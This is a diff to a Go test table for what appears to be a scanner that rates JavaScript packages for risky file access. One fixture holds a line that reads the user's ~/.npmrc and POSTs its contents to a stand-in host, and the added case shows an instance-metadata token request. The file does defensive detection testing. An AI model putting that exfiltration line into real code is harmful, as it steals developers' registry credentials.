@@ -28,6 +28,8 @@ func TestFileAccess(t *testing.T) {
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityHigh},
 		{"npmrc_mention", map[string]string{"index.js": `const name = ".npmrc"`}, finding.SeverityLow},
 		{"unrelated_paths", map[string]string{"index.js": `require("fs").readFileSync("./config/settings.json")`}, finding.SeverityNone},
+		// cloud SDKs ask the instance metadata service for their own credentials
+		{"cloud_sdk_imds", map[string]string{"index.js": `const IMDS = "http://169.254.169.254/latest/api/token"; require("http").request(IMDS, {method: "PUT"})`}, finding.SeverityNone},
 	})
 }
 
